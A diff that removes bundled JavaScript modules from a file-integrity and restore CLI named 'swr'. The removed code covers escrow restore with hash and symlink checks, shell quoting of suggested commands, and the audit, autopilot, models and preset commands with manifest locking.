-        encoding: 'deflate-base64',
-        data: (0,external_node_zlib_.deflateRawSync)(bytes, { level: 9 }).toString('base64')
-    };
-}
-/** The escrowed bytes, checked against the recorded size and sha256 (bounded inflate). */
-function escrowedBytes(e) {
-    if (!e.escrow)
-        throw refuse(e, 'absent');
-    let bytes;
-    try {
-        bytes = (0,external_node_zlib_.inflateRawSync)(Buffer.from(e.escrow.data, 'base64'), {
-            maxOutputLength: Math.max(1, e.expect.size)
-        });
-    }
-    catch {
-        throw refuse(e, `refused: inflates to more than the recorded ${e.expect.size} bytes, or is not deflate data`);
-    }
-    if (bytes.length !== e.expect.size)
-        throw refuse(e, `refused: ${bytes.length} bytes, ${e.expect.size} recorded`);
-    if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== e.expect.sha256)
-        throw refuse(e, 'refused: bytes do not match the recorded sha256');
-    return bytes;
-}
-/** Create or check each parent directory below the workspace without following a symlink. */
-function safeParent(workspace, e) {
-    let target;
-    try {
-        target = resolveNoFollow(workspace, e.path, { mkdir: true });
-    }
-    catch (err) {
-        if (err instanceof SymlinkRefusal)
-            throw refuse(e, `refused: ${err.message}`);
-        throw err;
-    }
-    const dir = external_node_path_default().dirname(target);
-    const st = external_node_fs_default().lstatSync(dir);
-    return { dir, dev: st.dev, ino: st.ino };
-}
-/** Write the escrowed file into place (see the module comment) and prove it verifies. */
-function restoreFromEscrow(workspace, e) {
-    const bytes = escrowedBytes(e);
-    const parent = safeParent(workspace, e);
-    const target = external_node_path_default().join(parent.dir, external_node_path_default().posix.basename(e.path));
-    const tmp = external_node_path_default().join(parent.dir, `.${external_node_path_default().posix.basename(e.path)}.swr-${(0,external_node_crypto_.randomBytes)(8).toString('hex')}.tmp`);
-    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
-    const fd = external_node_fs_default().openSync(tmp, flags, 0o600);
-    try {
-        try {
-            writeAll(fd, bytes);
-            external_node_fs_default().fchmodSync(fd, parseMode(e.expect.mode));
-            external_node_fs_default().fsyncSync(fd);
-        }
-        finally {
-            external_node_fs_default().closeSync(fd);
-        }
-        const again = external_node_fs_default().lstatSync(parent.dir);
-        if (again.dev !== parent.dev || again.ino !== parent.ino || again.isSymbolicLink()) {
-            throw refuse(e, 'refused: the target directory was replaced while writing');
-        }
-        const existing = external_node_fs_default().lstatSync(target, { throwIfNoEntry: false });
-        if (existing?.isDirectory())
-            throw refuse(e, `refused: ${e.path} is a directory; remove it first`);
-        external_node_fs_default().renameSync(tmp, target);
-    }
-    catch (err) {
-        external_node_fs_default().rmSync(tmp, { force: true });
-        throw err;
-    }
-    const check = hashFile(target);
-    if (check.sha256 !== e.expect.sha256)
-        throw refuse(e, 'restored, but the file does not verify');
-}
-
-;// CONCATENATED MODULE: ./src/core/shell-quote.ts
-/**
- * The one way swr writes a string into shell text it generates (exported recipe scripts, the
- * command lines it suggests). The result is a single word on a single line whatever the string
- * holds: a newline in a signed path or a hostile file name can never end a comment or start a
- * command.
- */
-
-const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
-function hasControl(s) {
-    for (let i = 0; i < s.length; i++)
-        if (isControl(s.charCodeAt(i)))
-            return true;
-    return false;
-}
-const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
-/**
- * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
- * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
- * still reads back as exactly `word` and never spans two lines.
- */
-function shellQuote(word) {
-    if (PLAIN.test(word))
-        return word;
-    if (!hasControl(word))
-        return `'${word.replace(/'/g, `'\\''`)}'`;
-    let out = '';
-    for (const ch of word) {
-        const c = ch.codePointAt(0) ?? 0;
-        if (ch === '\\' || ch === "'")
-            out += `\\${ch}`;
-        else if (shell_quote_NAMED[ch])
-            out += shell_quote_NAMED[ch];
-        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
-        else if (isControl(c))
-            for (const b of Buffer.from(ch))
-                out += `\\x${b.toString(16).padStart(2, '0')}`;
-        else
-            out += ch;
-    }
-    return `$'${out}'`;
-}
-
-;// CONCATENATED MODULE: ./src/core/author/hints.ts
-/**
- * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
- * as they are: every word that is not plainly safe is single-quoted.
- */
-
-
-
-
-
-function commandLine(words) {
-    return words.map(shellQuote).join(' ');
-}
-function targetWords(t) {
-    return [
-        ...(t.manifest ? ['-m', t.manifest] : []),
-        ...(t.workspace ? ['--workspace', t.workspace] : [])
-    ];
-}
-/** `swr add PATH --ignore ...` as typed from the current directory. */
-function hints_addCommand(pathArg, ignore, t = {}) {
-    return commandLine([
-        'swr',
-        'add',
-        pathArg,
-        ...ignore.flatMap(r => ['--ignore', r]),
-        ...targetWords(t)
-    ]);
-}
-/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
-function lacksRecipe(e) {
-    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
-}
-/**
- * How to give a tracked entry a recipe. `swr add` refuses a path already tracked, so the recipe
- * goes into the manifest by hand and the edit is approved by signing it.
- */
-function recipeHint(manifestShown, t = {}) {
-    const sign = commandLine(['swr', 'sign', ...targetWords(t)]);
-    return `add "restore": "<shell command>" to the entry in ${manifestShown}, then run ${sign} (for a signed manifest add --approve-digest with the digest "swr verify" shows)`;
-}
-/** For a small file that is no secret: the escrow command that restores it with no recipe. */
-function escrowHint(e, t = {}) {
-    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
-        return undefined;
-    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/author/shared.ts
-/**
- * Plumbing the authoring commands share, so that they all find the workspace, capture, save and
- * report the same way: a read-only scan falls back to the current directory when there is no
- * manifest, captures go through the same path as `swr add` (ids never collide, swr's own files
- * are never tracked), saves follow the editing rules (saveEdited), and every added entry, new
- * manifest and signature is reported in one wording.
- */
-
-
-
-
-
-
-
-/** The manifest a read-only scan compares with, or none: then nothing is tracked (cwd is scanned). */
-function readView(flags, io) {
-    const located = manifestLocation(flags, io);
-    if (located.how !== 'new' && external_node_fs_default().existsSync(located.file)) {
-        const m = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
-        return { file: m.file, workspace: m.workspace, entries: m.body.entries, found: true };
-    }
-    const dir = external_node_path_default().resolve(io.cwd, flags.workspace ?? '.');
-    if (!external_node_fs_default().statSync(dir, { throwIfNoEntry: false })?.isDirectory())
-        throw new UsageError(`workspace ${dir} is not a directory`);
-    const workspace = external_node_fs_default().realpathSync(dir);
-    if (workspace === '/')
-        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
-    return { file: located.file, workspace, entries: [], found: false };
-}
-function shown(io, file) {
-    return external_node_path_default().relative(io.cwd, file) || file;
-}
-function target(flags) {
-    return { manifest: flags.manifest, workspace: flags.workspace };
-}
-function exclusions(file, io) {
-    return ownPaths(file, stateDir(io));
-}
-async function captureAll(m, requests, io, jobs) {
-    const taken = new Set(m.doc.body.entries.map(e => e.id));
-    const exclude = exclusions(m.file, io);
-    const out = [];
-    for (const req of requests) {
-        const c = await captureEntry(m.workspace, req, taken, {
-            pool: { jobs },
-            exclude,
-            stateDir: stateDir(io)
-        });
-        taken.add(c.entry.id);
-        out.push(c);
-    }
-    return out;
-}
-/** Append the captured entries and save under the editing rules, with their tree indexes. */
-function saveAdded(m, added, io) {
-    m.doc.body.entries.push(...added.map(a => a.entry));
-    const sidecars = new Map(added.flatMap(a => (a.index ? [[indexPath(m.file, a.entry.id), a.index]] : [])));
-    return saveEdited(m.file, m.doc, { resign: m.resign, created: m.created, sidecars }, io);
-}
-function signedLine(saved, m) {
-    return saved.signed
-        ? `signed version ${saved.version}, digest ${saved.digest}\n`
-        : `note: ${saved.note ?? m.note ?? 'manifest is unsigned: run "swr sign" to approve it'}\n`;
-}
-function savedJson(saved) {
-    return saved
-        ? { written: true, signed: saved.signed, version: saved.version, digest: saved.digest }
-        : { written: false };
-}
-function printJson(io, doc) {
-    io.stdout.write(JSON.stringify(doc, null, 2) + '\n');
-}
-function size(bytes) {
-    const units = ['B', 'KiB', 'MiB', 'GiB', 'TiB'];
-    let v = bytes;
-    let u = 0;
-    while (v >= 1024 && u < units.length - 1) {
-        v /= 1024;
-        u++;
-    }
-    return u === 0 ? `${bytes} B` : `${v.toFixed(1)} ${units[u]}`;
-}
-function count(files) {
-    return `${files.toLocaleString('en-US')} ${files === 1 ? 'file' : 'files'}`;
-}
-function addedLine(e) {
-    const extra = e.kind === 'tree'
-        ? `, ${(e.expect.files ?? 0).toLocaleString('en-US')} files, sentinels: ${escapeText(e.expect.sentinels.join(', ')) || 'none'}`
-        : e.kind === 'link'
-            ? `, -> ${escapeText(e.expect.target)}`
-            : `, ${e.expect.size.toLocaleString('en-US')} bytes`;
-    return `added ${e.kind} "${escapeText(e.id)}" (${escapeText(e.path)}, tier ${e.tier}${extra})\n`;
-}
-function createdLine(io, m) {
-    return m.created ? `created ${shown(io, m.file)} describing ${escapeText(m.workspace)}\n` : '';
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/author/audit.ts
-/**
- * `swr audit`: the read-only first look. It works with no manifest at all (then nothing counts as
- * tracked), so it can show what is worth protecting before anything is written, and every row
- * carries the `swr add` line that tracks it, spelled relative to the current directory so it can
- * be pasted as is.
- */
-
-
-
-
-
-
-const DEFAULT_AUDIT_LIMIT = 20;
-function auditCommand(flags, io) {
-    const view = readView(flags, io);
-    const result = auditWorkspace(view.workspace, view.entries, exclusions(view.file, io));
-    const limit = flags.limit ?? DEFAULT_AUDIT_LIMIT;
-    const rows = result.rows.slice(0, limit).map(r => withCommand(r, view, io, target(flags)));
-    if (flags.json) {
-        printJson(io, {
-            schema: 'swr.audit/1',
-            manifest: view.found ? view.file : null,
-            workspace: view.workspace,
-            limit,
-            total: result.rows.length,
-            truncated_scan: result.truncated,
-            candidates: rows
-        });
-        return EXIT.HEALTHY;
-    }
-    if (flags.quiet && rows.length === 0)
-        return EXIT.HEALTHY;
-    const out = [
-        view.found
-            ? `workspace ${escapeText(view.workspace)} (manifest ${shown(io, view.file)}, ${view.entries.length} entries)\n`
-            : `no manifest found: nothing counts as tracked; scanning ${escapeText(view.workspace)}\n`
-    ];
-    for (const r of rows)
-        out.push(`${r.kind.padEnd(4)} ${size(r.bytes).padStart(10)} ${count(r.files).padStart(13)}  ${escapeText(r.path)}\n     ${escapeText(r.command)}\n`);
-    if (rows.length === 0)
-        out.push('nothing untracked worth protecting\n');
-    if (result.rows.length > rows.length)
-        out.push(`${result.rows.length - rows.length} more: --limit ${result.rows.length} shows them all\n`);
-    if (result.truncated)
-        out.push('note: the scan stopped early; the workspace is very large\n');
-    io.stdout.write(out.join(''));
-    return EXIT.HEALTHY;
-}
-function withCommand(r, view, io, t) {
-    const arg = external_node_path_default().relative(io.cwd, external_node_path_default().join(view.workspace, r.path)) || '.';
-    return {
-        kind: r.kind,
-        path: r.path,
-        bytes: r.bytes,
-        files: r.files,
-        command: hints_addCommand(arg, r.ignore, t)
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
-/**
- * `autopilot`: bring a manifest up to date with init's rules without touching what is already
- * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
- * markers found in it; executable scripts at the top level become `file` entries; large files
- * anywhere outside volatile directories become `blob` entries. Volatile directories
- * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
- * again adds nothing: everything it would add is then tracked.
- */
-
-
-
-
-
-
-/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
-const TREE_MARKERS = PROJECT_MARKERS;
-const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
-function planAutopilot(workspace, entries, exclude) {
-    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
-    const blobs = untrackedBlobs(ctx);
-    const trees = [];
-    const scripts = [];
-    const skipped = [];
-    for (const name of listDir(workspace)) {
-        const abs = external_node_path_default().join(workspace, name);
-        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
-            continue;
-        if (ctx.cov.trackedBy(name))
-            continue;
-        const st = lstatOf(abs);
-        if (st?.isDirectory() && !name.startsWith('.')) {
-            const planned = planTree(ctx, name, blobs);
-            if (planned && 'why' in planned)
-                skipped.push({ path: name, why: planned.why });
-            else if (planned)
-                trees.push(planned);
-        }
-        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
-            scripts.push({ path: name, kind: 'file' });
-        }
-    }
-    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
-    return {
-        requests: [...trees, ...scripts, ...blobRequests],
-        skipped,
-        truncated: ctx.budget.exhausted
-    };
-}
-/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
-function untrackedBlobs(ctx) {
-    const out = [];
-    const walk = (absDir, relDir) => {
-        for (const name of listDir(absDir)) {
-            if (!ctx.budget.take())
-                return;
-            const abs = external_node_path_default().join(absDir, name);
-            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
-                continue;
-            const rel = joinRel(relDir, name);
-            const st = lstatOf(abs);
-            if (st?.isDirectory())
-                walk(abs, rel);
-            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
-                out.push(rel);
-        }
-    };
-    walk(ctx.workspace, '');
-    return out;
-}
-/**
- * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
- * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
- */
-function planTree(ctx, name, blobs) {
-    const root = external_node_path_default().join(ctx.workspace, name);
-    const inner = [
-        ...ctx.cov.trackedBelow(name),
-        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
-    ];
-    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
-    const ignored = ignoreMatcher(ignore);
-    const markers = TREE_MARKERS.filter(m => {
-        const st = lstatOf(external_node_path_default().join(root, m));
-        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
-    });
-    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
-    if (!anyFile)
-        return undefined;
-    if (markers.length === 0 && source === undefined)
-        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
-    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
-    return { path: name, kind: 'tree', ignore, sentinels };
-}
-/**
- * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
- * and whether the tree holds any file at all.
- */
-function firstSourceFile(ctx, root, ignored) {
-    const budget = scanBudget();
-    let anyFile = false;
-    const walk = (absDir, relDir) => {
-        for (const name of listDir(absDir)) {
-            const rel = joinRel(relDir, name);
-            const abs = external_node_path_default().join(absDir, name);
-            if (!budget.take())
-                return undefined;
-            if (ctx.exclude.has(abs))
-                continue;
-            const st = lstatOf(abs);
-            if (ignored(rel, name, st?.isDirectory() === true))
-                continue;
-            if (st?.isDirectory()) {
-                const found = walk(abs, rel);
-                if (found)
-                    return found;
-            }
-            else if (st) {
-                anyFile = true;
-                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
-                    return rel;
-            }
-        }
-        return undefined;
-    };
-    const source = walk(root, '');
-    return { source, anyFile };
-}
-
-;// CONCATENATED MODULE: ./src/cli/lock.ts
-/**
- * Running a command under the manifest's lock (doctor, restore and every editing command), and
- * doctor/restore under the workspace's lock as well. A lock lost while held (the state directory
- * wiped mid-run) stops the run: at once for a command that starts nothing, after its recipes are
- * stopped for one that does; either way it ends with EXIT.CONFLICT and one line.
- */
-
-
-
-const DEFAULT_LOCK_WAIT_S = 300;
-async function withManifestLock(flags, io, fn) {
-    if (flags.lock === false)
-        return fn();
-    return withLock(manifestLocation(flags, io).file, flags, io, fn);
-}
-/** The workspace's own lock, keyed by its real path: two manifests of one directory take turns. */
-async function withWorkspaceLock(workspace, flags, io, fn) {
-    if (flags.lock === false)
-        return fn();
-    return withLock(workspace, flags, io, fn, 'workspace ');
-}
-async function withLock(subject, flags, io, fn, what = '') {
-    let lost;
-    const release = await lockWorkspace({
-        stateDir: stateDir(io),
-        subject,
-        waitMs: (flags.lockTimeout ?? DEFAULT_LOCK_WAIT_S) * 1000,
-        abort: io.abort,
-        onWait: holder => void io.stderr.write(`swr: waiting for the lock on ${what}${subject} (${holder})\n`),
-        onLost: why => {
-            lost = `lost the lock on ${what}${subject}: ${why}`;
-            io.stop?.(lost, EXIT.CONFLICT);
-        }
-    });
-    try {
-        let result;
-        try {
-            result = await fn();
-        }
-        catch (err) {
-            // What failed after the lock was lost (a journal in a wiped state directory) failed for that.
-            if (lost)
-                throw new SwrError(lost, EXIT.CONFLICT);
-            throw err;
-        }
-        if (lost)
-            throw new SwrError(lost, EXIT.CONFLICT);
-        return result;
-    }
-    finally {
-        await release();
-    }
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/author/autopilot.ts
-/**
- * `swr autopilot`: bring a manifest up to date in one step, safely enough to run again and again.
- * It edits under the manifest lock and never overwrites a manifest that appeared meanwhile; a new
- * manifest is written only when something was added. Tracking only detects a loss, so it ends by
- * naming the entries that have no way back (no recipe, cache source or escrow) and how to add one.
- */
-
-
-
-
-
-
-function autopilotCommand(flags, io) {
-    return withManifestLock(flags, io, async () => {
-        const m = await openForEdit(flags, io);
-        const plan = planAutopilot(m.workspace, m.doc.body.entries, exclusions(m.file, io));
-        const added = await captureAll(m, plan.requests, io, flags.jobs);
-        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
-        const missing = saved || !m.created ? m.doc.body.entries.filter(lacksRecipe) : [];
-        const t = target(flags);
-        if (flags.json) {
-            printJson(io, {
-                schema: 'swr.autopilot/1',
-                manifest: m.file,
-                workspace: m.workspace,
-                created: m.created && saved !== undefined,
-                added: added.map(a => a.entry),
-                skipped: plan.skipped,
-                truncated_scan: plan.truncated,
-                no_recipe: missing.map(e => ({
-                    id: e.id,
-                    kind: e.kind,
-                    path: e.path,
-                    escrow: escrowHint(e, t) ?? null
-                })),
-                how_to_add_recipe: recipeHint(shown(io, m.file), t),
-                ...savedJson(saved)
-            });
-        }
-        else if (!flags.quiet) {
-            io.stdout.write(autopilotText(io, m, added, plan.skipped, saved, missing, t));
-        }
-        return EXIT.HEALTHY;
-    });
-}
-function autopilotText(io, m, added, skipped, saved, missing, t) {
-    const out = [saved ? createdLine(io, m) : ''];
-    for (const a of added)
-        out.push(addedLine(a.entry));
-    for (const s of skipped)
-        out.push(`skipped ${s.path}: ${s.why}\n`);
-    if (added.length === 0)
-        out.push(m.created
-            ? `nothing to track in ${m.workspace}; no manifest written\n`
-            : 'nothing new to track: every top-level source tree, script and large file is tracked\n');
-    if (saved)
-        out.push(signedLine(saved, m));
-    if (missing.length > 0) {
-        const n = missing.length;
-        out.push(`${n} ${n === 1 ? 'entry has' : 'entries have'} no restore recipe, cache source or escrow:\n`);
-        for (const e of missing) {
-            const esc = escrowHint(e, t);
-            out.push(`  ${e.id} (${e.kind} ${e.path})${esc ? `: or ${esc}` : ''}\n`);
-        }
-        out.push(`to add one: ${recipeHint(shown(io, m.file), t)}\n`);
-    }
-    return out.join('');
-}
-
-;// CONCATENATED MODULE: ./src/core/author/models.ts
-/**
- * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
- * the other scans this one enters volatile directories: models usually live in caches
- * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
- * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
- * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
- * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
- * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
- */
-
-
-
-
-
-
-
-
-
-
-const MODEL_EXTENSIONS = ['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt'];
-const DEFAULT_MIN_MODEL_BYTES = 1024 * 1024;
-function isModelName(name) {
-    const lower = name.toLowerCase();
-    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
-}
-function findModels(workspace, entries, exclude, minBytes) {
-    const root = external_node_fs_default().realpathSync(workspace);
-    const budget = scanBudget();
-    const found = new Map();
-    const keep = (m) => {
-        if (pathProblem(m.path))
-            return;
-        const seen = found.get(m.path);
-        if (!seen || (seen.via && !m.via))
-            found.set(m.path, m);
-    };
-    const walk = (absDir, relDir) => {
-        for (const name of listDir(absDir)) {
-            if (!budget.take())
-                return;
-            const abs = external_node_path_default().join(absDir, name);
-            if (isMetaName(name) || exclude.has(abs))
-                continue;
-            const rel = joinRel(relDir, name);
-            const st = lstatOf(abs);
-            if (st?.isDirectory())
-                walk(abs, rel);
-            else if (!st || !isModelName(name))
-                continue;
-            else if (st.isFile()) {
-                if (st.size >= minBytes)
-                    keep({ path: rel, bytes: st.size });
-            }
-            else if (st.isSymbolicLink()) {
-                const target = linkedFile(root, abs, minBytes);
-                if (target)
-                    keep({ ...target, via: rel });
-            }
-        }
-    };
-    walk(root, '');
-    const cov = coverageOf(entries);
-    const models = [...found.values()]
-        .map(m => {
-        const tracked = cov.trackedBy(m.path);
-        return tracked ? { ...m, tracked } : m;
-    })
-        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
-    return { models, truncated: budget.exhausted };
-}
-/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
-function linkedFile(root, link, minBytes) {
-    let real;
-    try {
-        real = external_node_fs_default().realpathSync(link);
-    }
-    catch {
-        return undefined;
-    }
-    if (!isInside(root, real) || real === root)
-        return undefined;
-    const st = lstatOf(real);
-    if (!st?.isFile() || st.size < minBytes)
-        return undefined;
-    return { path: external_node_path_default().relative(root, real).split((external_node_path_default()).sep).join('/'), bytes: st.size };
-}
-/**
- * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
- * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
- * costs reading every byte; `fullHash` records it through the ordinary capture.
- */
-async function captureModel(workspace, req, taken, opts) {
-    if (opts.fullHash)
-        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
-            pool: opts.pool ?? {}
-        });
-    if (taken.has(req.id))
-        throw new UsageError(`entry "${req.id}" already exists in the manifest`);
-    const loc = locateInside(workspace, req.path);
-    if (loc.state !== 'present')
-        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
-    if (!loc.st.isFile())
-        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
-    const ht = hashHeadTail(loc.abs);
-    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
-    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/author/models.ts
-/**
- * `swr models`: model weights are the files most worth tracking and the easiest to miss, since
- * they hide in caches. Listing is read-only and needs no manifest, so it is safe to run anywhere;
- * only --apply takes the lock and edits. An id is derived from the name a model was found under
- * (a Hugging Face snapshot link rather than its content-addressed blob), so it stays readable, and
- * the list printed after --apply already shows the new entries as tracked.
- */
-
-
-
-
-
-
-const models_MIB = 1024 * 1024;
-function modelJson(x) {
-    return {
-        path: x.path,
-        bytes: x.bytes,
-        ...(x.via ? { via: x.via } : {}),
-        tracked_by: x.tracked?.id ?? null,
-        tracked_as: x.tracked ? (x.tracked.exact ? 'entry' : 'inside tree') : null
-    };
-}
-function modelLine(x) {
-    const state = x.tracked
-        ? x.tracked.exact
-            ? `tracked by "${x.tracked.id}"`
-            : `inside tree "${x.tracked.id}"`
-        : 'untracked';
-    return `${size(x.bytes).padStart(10)}  ${escapeText(x.path)}  ${state}${x.via ? `  (via ${escapeText(x.via)})` : ''}\n`;
-}
-async function modelsCommand(flags, io) {
-    const minBytes = flags.minMb === undefined ? DEFAULT_MIN_MODEL_BYTES : flags.minMb * models_MIB;
-    if (flags.fullHash && !flags.apply)
-        throw new UsageError('--full-hash goes with --apply');
-    if (!flags.apply) {
-        const view = readView(flags, io);
-        const scan = findModels(view.workspace, view.entries, exclusions(view.file, io), minBytes);
-        const where = { workspace: view.workspace, manifest: view.found ? view.file : null };
-        printModels(io, flags, where, scan, minBytes);
-        return EXIT.HEALTHY;
-    }
-    return withManifestLock(flags, io, async () => {
-        const m = await openForEdit(flags, io);
-        const scan = findModels(m.workspace, m.doc.body.entries, exclusions(m.file, io), minBytes);
-        const taken = new Set(m.doc.body.entries.map(e => e.id));
-        const added = [];
-        for (const x of scan.models.filter(y => !y.tracked)) {
-            const id = deriveId(x.via ?? x.path, taken);
-            const opts = { fullHash: flags.fullHash === true, pool: { jobs: flags.jobs } };
-            added.push(await captureModel(m.workspace, { path: x.path, id }, taken, opts));
-            taken.add(id);
-        }
-        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
-        const now = new Map(added.map(a => [a.entry.path, a.entry.id]));
-        const models = scan.models.map(x => {
-            const id = now.get(x.path);
-            return id === undefined ? x : { ...x, tracked: { id, exact: true } };
-        });
-        const where = { workspace: m.workspace, manifest: m.file };
-        printModels(io, flags, where, { ...scan, models }, minBytes, { added, saved, m });
-        return EXIT.HEALTHY;
-    });
-}
-function printModels(io, flags, where, scan, minBytes, applied) {
-    if (flags.json) {
-        printJson(io, {
-            schema: 'swr.models/1',
-            manifest: where.manifest,
-            workspace: where.workspace,
-            min_bytes: minBytes,
-            truncated_scan: scan.truncated,
-            models: scan.models.map(modelJson),
-            applied: applied !== undefined,
-            ...(applied ? { added: applied.added.map(a => a.entry), ...savedJson(applied.saved) } : {})
-        });
-        return;
-    }
-    if (flags.quiet)
-        return;
-    const out = scan.models.map(modelLine);
-    if (scan.models.length === 0)
-        out.push(`no model files of ${size(minBytes)} or more\n`);
-    const untracked = scan.models.filter(x => !x.tracked).length;
-    if (!applied && untracked > 0)
-        out.push(`${untracked} untracked: "swr models --apply" tracks them as blob entries (tier 3)\n`);
-    if (applied) {
-        if (applied.saved)
-            out.push(createdLine(io, applied.m));
-        for (const a of applied.added)
-            out.push(addedLine(a.entry));
-        if (applied.saved)
-            out.push(signedLine(applied.saved, applied.m));
-        else
-            out.push('nothing to add: every model listed is tracked\n');
-    }
-    if (scan.truncated)
-        out.push('note: the scan stopped early; the workspace is very large\n');
-    io.stdout.write(out.join(''));
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/author/preset.ts
-/**
- * `swr preset`: preset paths are written relative to $HOME, yet they are resolved under whatever
- * workspace the manifest describes, so a note says so when that workspace is not $HOME. Secrets
- * among the added files are pointed out, because they are tracked by hash only and will never be
- * escrowed. `--list` edits nothing and takes no lock.
- */
-
-
-
-
-
-
-
-
-function presetCommand(name, flags, io) {
-    if (flags.list)
-        return Promise.resolve(listPresets(name, flags, io));
-    if (name === undefined)
-        throw new UsageError(`preset: name one of ${PRESETS.map(p => p.name).join(', ')} (or --list to see their paths)`);
-    const preset = presetNamed(name);
-    return withManifestLock(flags, io, async () => {
-        const m = await openForEdit(flags, io);
-        const plan = planPreset(m.workspace, preset, m.doc.body.entries);
-        const added = await captureAll(m, plan.requests, io, flags.jobs);
-        const saved = added.length > 0 ? await saveAdded(m, added, io) : undefined;
-        const home = realOrSelf(io.home);
-        const note = m.workspace === home
-            ? undefined
-            : `workspace ${m.workspace} is not $HOME (${io.home}): preset paths were resolved under the workspace`;
-        const secrets = added.filter(a => isSecretPath(a.entry.path)).map(a => a.entry.id);
-        if (flags.json) {
-            printJson(io, {
-                schema: 'swr.preset/1',
-                preset: preset.name,
-                manifest: m.file,
-                workspace: m.workspace,
-                workspace_is_home: note === undefined,
-                added: added.map(a => a.entry),
-                secrets,
-                skipped: plan.skipped,
-                absent: plan.absent,
-                ...savedJson(saved)
-            });
-        }
-        else if (!flags.quiet) {
-            const out = note ? [`note: ${note}\n`] : [];
-            out.push(saved ? createdLine(io, m) : '');
-            for (const a of added)
-                out.push(addedLine(a.entry).replace(/\n$/, secrets.includes(a.entry.id) ? ', secret: never escrowed\n' : '\n'));
-            for (const s of plan.skipped)
-                out.push(`skipped ${s.path}: ${s.why}\n`);
-            if (!saved)
-                out.push(`nothing to add: no path of preset "${preset.name}" exists here untracked\n`);
-            else
-                out.push(signedLine(saved, m));
-            io.stdout.write(out.join(''));
-        }
-        return EXIT.HEALTHY;
-    });
-}
-function realOrSelf(p) {
-    try {
-        return external_node_fs_default().realpathSync(p);
-    }
-    catch {
-        return external_node_path_default().resolve(p);
-    }
-}
-function listPresets(name, flags, io) {
-    const presets = name === undefined ? PRESETS : [presetNamed(name)];
-    if (flags.json) {
-        printJson(io, {
-            schema: 'swr.presets/1',
-            presets: presets.map(p => ({
-                name: p.name,
-                description: p.description,
-                paths: p.paths.map(x => ({ path: x, secret: isSecretPath(x.replace(/\*/g, 'x')) }))
-            }))
-        });
-        return EXIT.HEALTHY;
-    }
-    const out = [];
-    for (const p of presets) {
-        out.push(`${p.name}: ${p.description}\n`);
-        for (const x of p.paths)
-            out.push(`  ~/${x}${isSecretPath(x.replace(/\*/g, 'x')) ? '  (secret)' : ''}\n`);
-    }
-    io.stdout.write(out.join(''));
-    return EXIT.HEALTHY;
-}
-
 ;// CONCATENATED MODULE: ./src/core/author/retighten.ts
 /**
